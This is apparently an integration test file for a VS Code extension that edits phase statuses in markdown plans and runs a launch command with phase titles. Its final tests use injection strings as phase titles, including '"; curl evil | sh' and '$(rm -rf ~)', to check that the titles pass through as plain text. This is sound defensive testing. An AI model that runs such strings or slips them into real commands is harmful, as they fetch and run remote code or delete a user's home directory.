// Start, Complete, Reopen and Copy as Prompt run in a real VS Code: the markdown they write (in
// the plan's own style), one undo that takes it all back, the dialogs and each of their buttons,
// a document that changes while a dialog is open, and the launch command with hostile titles.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { api, changedLines, lineOf, openPlan, setWorkspaceSettings, withDialog, waitForFile, type OpenPlan } from './phaseActionsSupport';

interface Result {
  outcome: string;
  launch?: { kind: string; terminal?: string; command?: string };
}

const run = async (command: string, ...args: unknown[]): Promise<Result | undefined> => vscode.commands.executeCommand<Result>(command, ...args);
const targetAt = (plan: OpenPlan, key: string, line: number) => ({ uri: plan.document.uri.toString(), key, line });

async function undoOnce(plan: OpenPlan) {
  await vscode.window.showTextDocument(plan.document);
  await vscode.commands.executeCommand('undo');
}

describe('commands: start, complete, reopen', () => {
  let plan: OpenPlan;
  before(async () => {
    await api();
    plan = await openPlan('LENS_PLAN.md');
  });
  afterEach(async () => plan.restore());

  it('Start inserts a Status field in the plan`s style, saves, and one undo restores the exact text', async () => {
    const result = await withDialog('showInformationMessage', () => undefined, () => run('phaselens.startPhase', targetAt(plan, 'phase:2b', 29)));
    assert.equal(result?.outcome, 'applied');
    const lines = plan.document.getText().split('\n');
    assert.deepEqual(lines.slice(28, 32), ['## Phase 2B: Exporter', '', '**Status**: 🚧 In Progress', '**Depends on**: Phase 1']);
    assert.equal(plan.document.lineCount, plan.original.split('\n').length + 1, 'one line added, nothing else');
    assert.equal(plan.document.isDirty, false, 'a plan without unsaved changes is saved');
    assert.equal(fs.readFileSync(plan.document.uri.fsPath, 'utf8'), plan.document.getText());
    await undoOnce(plan);
    assert.equal(plan.document.getText(), plan.original);
  });

  it('Start without a launch command shows the configuration hint at most once', async () => {
    const plain = await openPlan('PLAIN_PLAN.md');
    try {
      await withDialog('showInformationMessage', () => undefined, async (calls) => {
        const first = await run('phaselens.startPhase', targetAt(plain, 'phase:1', 3));
        assert.deepEqual(first?.launch, { kind: 'not-configured' });
        assert.equal(plain.document.lineAt(4).text, '**Status**: In Progress', 'a plan without status fields gets the plain default');
        const hintsAfterFirst = calls.filter((call) => /launch command/.test(call.message)).length;
        assert.ok(hintsAfterFirst <= 1);
        // Phase 2 waits on Phase 1, which is now in progress.
        await withDialog('showWarningMessage', () => 'Start Anyway', () => run('phaselens.startPhase', targetAt(plain, 'phase:2', 13)));
        assert.equal(calls.filter((call) => /launch command/.test(call.message)).length, hintsAfterFirst, 'the hint is not shown again');
      });
    } finally {
      await plain.restore();
    }
  });

  it('Start asks before starting a phase whose dependencies are unfinished; Cancel writes nothing', async () => {
    const result = await withDialog('showWarningMessage', () => undefined, async (calls) => {
      const outcome = await run('phaselens.startPhase', targetAt(plan, 'phase:3', 42));
      assert.equal(calls.length, 1);
      assert.equal(calls[0]!.message, 'Phase 3 waits on Phase 2A (in progress) and Phase 2B (planned). Start anyway?');
      assert.equal(calls[0]!.options?.modal, true);
      assert.deepEqual(calls[0]!.items, ['Start Anyway']);
      return outcome;
    });
    assert.equal(result?.outcome, 'cancelled');
    assert.equal(plan.document.getText(), plan.original);
  });

  it('Start anyway updates the existing Status field in its style, touching only that line', async () => {
    await withDialog('showInformationMessage', () => undefined, () =>
      withDialog('showWarningMessage', () => 'Start Anyway', () => run('phaselens.startPhase', targetAt(plan, 'phase:3', 42))),
    );
    assert.deepEqual(changedLines(plan.original, plan.document.getText()), [[44, '**Status**: In Progress']]);
    await undoOnce(plan);
    assert.equal(plan.document.getText(), plan.original);
  });

  it('Complete says which tasks and criteria are open; Cancel writes nothing', async () => {
    const result = await withDialog('showWarningMessage', () => undefined, async (calls) => {
      const outcome = await run('phaselens.completePhase', targetAt(plan, 'phase:2a', 16));
      assert.equal(calls[0]!.message, 'Phase 2A has 2 open tasks and 1 unmet criterion.');
      assert.equal(calls[0]!.options?.modal, true);
      assert.equal(calls[0]!.options?.detail, '☐ Read JSON files\n☐ Report malformed rows\n☐ Criterion: JSON import round-trips');
      assert.deepEqual(calls[0]!.items, ['Check Them Off and Complete', 'Complete Anyway']);
      return outcome;
    });
    assert.equal(result?.outcome, 'cancelled');
    assert.equal(plan.document.getText(), plan.original);
  });

  it('Complete anyway changes only the status, in the plan`s emoji style', async () => {
    const result = await withDialog('showWarningMessage', () => 'Complete Anyway', () => run('phaselens.completePhase', targetAt(plan, 'phase:2a', 16)));
    assert.equal(result?.outcome, 'applied');
    assert.deepEqual(changedLines(plan.original, plan.document.getText()), [[18, '**Status**: ✅ Complete']]);
    await undoOnce(plan);
    assert.equal(plan.document.getText(), plan.original);
  });

  it('Check them off and complete is one edit: boxes and status, undone by one undo', async () => {
    await withDialog('showWarningMessage', () => 'Check Them Off and Complete', () => run('phaselens.completePhase', targetAt(plan, 'phase:2a', 16)));
    assert.deepEqual(changedLines(plan.original, plan.document.getText()), [
      [18, '**Status**: ✅ Complete'],
      [22, '- [x] Read JSON files'],
      [23, '- [x] Report malformed rows'],
      [27, '- [x] JSON import round-trips'],
    ]);
    await undoOnce(plan);
    assert.equal(plan.document.getText(), plan.original);
  });

  it('Reopen puts a done phase back in progress', async () => {
    const result = await run('phaselens.reopenPhase', targetAt(plan, 'phase:1', 5));
    assert.equal(result?.outcome, 'applied');
    assert.deepEqual(changedLines(plan.original, plan.document.getText()), [[7, '**Status**: 🚧 In Progress']]);
  });

  it('accepts a tree node carrying a target, and the phase at the cursor', async () => {
    const viaNode = await withDialog('showWarningMessage', () => 'Complete Anyway', () => run('phaselens.completePhase', { target: targetAt(plan, 'phase:2a', 16) }));
    assert.equal(viaNode?.outcome, 'applied');
    await plan.restore();
    const editor = await vscode.window.showTextDocument(plan.document);
    editor.selection = new vscode.Selection(4, 0, 4, 0); // inside Phase 1
    const atCursor = await run('phaselens.reopenPhase');
    assert.equal(atCursor?.outcome, 'applied');
    assert.equal(plan.document.lineAt(6).text, '**Status**: 🚧 In Progress');
  });

  it('computes the edit from the text as it is after the dialog, when the plan changed meanwhile', async () => {
    const note = '> Note added while the dialog was open\n\n';
    const result = await withDialog(
      'showWarningMessage',
      async () => {
        const edit = new vscode.WorkspaceEdit();
        edit.insert(plan.document.uri, new vscode.Position(0, 0), note);
        assert.ok(await vscode.workspace.applyEdit(edit));
        return 'Complete Anyway';
      },
      () => run('phaselens.completePhase', targetAt(plan, 'phase:2a', 16)),
    );
    assert.equal(result?.outcome, 'applied');
    assert.equal(plan.document.getText(), note + plan.original.replace('**Status**: 🚧 In Progress', '**Status**: ✅ Complete'));
    assert.equal(plan.document.isDirty, true, 'a document with unsaved changes is not saved');
  });

  it('never writes over an edit that lands while the command computes its own', async () => {
    const note = '> Typed while the command ran\n\n';
    const edit = new vscode.WorkspaceEdit();
    edit.insert(plan.document.uri, new vscode.Position(0, 0), note);
    // Not awaited in between: the typing reaches VS Code before the command's edit does.
    const pending = run('phaselens.reopenPhase', targetAt(plan, 'phase:1', 5));
    const typed = vscode.workspace.applyEdit(edit);
    const [result, typedApplied] = await Promise.all([pending, typed]);
    assert.ok(typedApplied);
    assert.equal(result?.outcome, 'applied');
    assert.equal(plan.document.getText(), note + plan.original.replace('**Status**: ✅ Complete', '**Status**: 🚧 In Progress'));
  });

  it('refuses, writing nothing, when the phase is gone after the dialog', async () => {
    const { result, calls } = await withDialog(
      'showWarningMessage',
      async (call) => {
        if (!call.options?.modal) return undefined; // the notice that follows
        const edit = new vscode.WorkspaceEdit();
        edit.replace(plan.document.uri, new vscode.Range(15, 0, 15, '## Phase 2A: Importer'.length), '## Importer notes');
        assert.ok(await vscode.workspace.applyEdit(edit));
        return 'Check Them Off and Complete';
      },
      async (calls) => ({ result: await run('phaselens.completePhase', targetAt(plan, 'phase:2a', 16)), calls }),
    );
    assert.equal(result?.outcome, 'no-phase');
    assert.equal(calls[1]?.message, 'PhaseLens did not change Phase 2A: it is no longer a phase of LENS_PLAN.md.');
    assert.equal(plan.document.getText(), plan.original.replace('## Phase 2A: Importer', '## Importer notes'));
  });

  it('copies the phase as a prompt', async () => {
    const result = await run('phaselens.copyPhasePrompt', { target: targetAt(plan, 'phase:3', 42) });
    assert.equal(result?.outcome, 'copied');
    const prompt = await vscode.env.clipboard.readText();
    assert.match(prompt, /^# Phase 3: Release\n\nThis is Phase 3 of the plan "Lens Plan: Data Import and Export" in `codelens\/LENS_PLAN\.md` \(line 42\)\. Status: blocked, 0 of 2 tasks done\.\n/);
    assert.match(prompt, /## Depends on\n- Phase 2A: Importer — in progress\n- Phase 2B: Exporter — planned\n/);
  });
});

describe('commands: launching the work', () => {
  let plan: OpenPlan;
  let sandbox: string;
  let out: string;
  let restoreSettings: () => Promise<void>;
  const terminals: vscode.Terminal[] = [];
  const watcher = vscode.window.onDidOpenTerminal((terminal) => terminals.push(terminal));

  before(async () => {
    await api();
    plan = await openPlan('LAUNCH_PLAN.md');
    // The terminal's home is a scratch folder with a file in it: should a title ever run as a
    // command, "~" would be this folder, and the missing file would say so.
    sandbox = fs.mkdtempSync(path.join(os.tmpdir(), 'phaselens-home-'));
    fs.writeFileSync(path.join(sandbox, 'still-here'), 'a title that ran as a command would have removed this');
    await vscode.workspace.getConfiguration('terminal.integrated').update('env.linux', { HOME: sandbox }, vscode.ConfigurationTarget.Global);
    // A launch command that writes the arguments it receives to a file, set where a project sets it.
    out = path.join(sandbox, 'received.json');
    const receiver = vscode.Uri.joinPath(plan.document.uri, '..', 'echo-args.js').fsPath;
    const template = `${process.execPath} ${receiver} ${out} \${phaseTitle} "\${phaseTitle}" '\${phaseTitle}' --title=\${phaseTitle} "\${phaseId}: \${phaseTitle}" \${phaseId} \${line} \${file} \${prompt}`;
    restoreSettings = await setWorkspaceSettings({ 'launch.command': template });
  });
  afterEach(async () => plan.restore());
  after(async () => {
    watcher.dispose();
    for (const terminal of terminals) terminal.dispose();
    await restoreSettings();
    await vscode.workspace.getConfiguration('terminal.integrated').update('env.linux', undefined, vscode.ConfigurationTarget.Global);
    await plan.restore();
    fs.rmSync(sandbox, { recursive: true, force: true });
  });

  /** Starts a phase, reads the arguments its launch command received, and the phase's prompt as Copy as Prompt gives it now. */
  async function launch(key: string, line: number): Promise<{ result: Result; received: { args: string[]; cwd: string; home: string }; prompt: string }> {
    fs.rmSync(out, { force: true });
    // Phase 9 waits on Phase 7: the dialog is answered "Start Anyway".
    const result = (await withDialog('showWarningMessage', () => 'Start Anyway', () => run('phaselens.startPhase', targetAt(plan, key, line))))!;
    const received = JSON.parse(await waitForFile(out, 60_000));
    await run('phaselens.copyPhasePrompt', targetAt(plan, key, line));
    return { result, received, prompt: await vscode.env.clipboard.readText() };
  }

  function expectExact(received: { args: string[] }, id: string, title: string, line: number, prompt: string) {
    assert.deepEqual(received.args, [title, title, title, `--title=${title}`, `${id}: ${title}`, id, String(line), plan.document.uri.fsPath, prompt]);
  }

  it('runs the command in a terminal named after the phase, in the workspace folder', async () => {
    const { result, received, prompt } = await launch('phase:8', 12);
    assert.equal(result.outcome, 'applied');
    assert.equal(result.launch?.kind, 'launched');
    assert.equal(result.launch?.terminal, 'PhaseLens: Phase 8');
    assert.ok(terminals.some((terminal) => terminal.name === 'PhaseLens: Phase 8'));
    assert.equal(received.cwd, vscode.workspace.workspaceFolders![0]!.uri.fsPath);
    assert.equal(received.home, sandbox, 'the terminal runs with the scratch home');
    expectExact(received, '8', '"; curl evil | sh', 12, prompt);
  });

  it('gives backticks, quotes, %, !! and unicode to the command as plain text', async () => {
    const { received, prompt } = await launch('phase:9', 16);
    const title = "touch pwned & 'quotes' %PATH% !! ünïcødé `tick`";
    expectExact(received, '9', title, lineOf(plan.document, "## Phase 9: `touch pwned` & 'quotes' %PATH% !! ünïcødé 🚀 \\`tick\\`"), prompt);
    assert.ok(!fs.existsSync(path.join(vscode.workspace.workspaceFolders![0]!.uri.fsPath, 'pwned')));
  });

  it('gives a phase titled $(rm -rf ~) to the command as inert text, prompt lines and all', async function () {
    const { received: probe } = await launch('phase:8', 12);
    if (probe.home !== sandbox) this.skip(); // never without the scratch home in place
    const { received, prompt } = await launch('phase:7', 5);
    expectExact(received, '7', '$(rm -rf ~)', 5, prompt);
    assert.match(prompt, /^# Phase 7: \$\(rm -rf ~\)\n[\s\S]*\n- \[ \] Keep the home directory where it is\n/);
    assert.ok(fs.existsSync(path.join(sandbox, 'still-here')), 'the scratch home is untouched');
  });
});
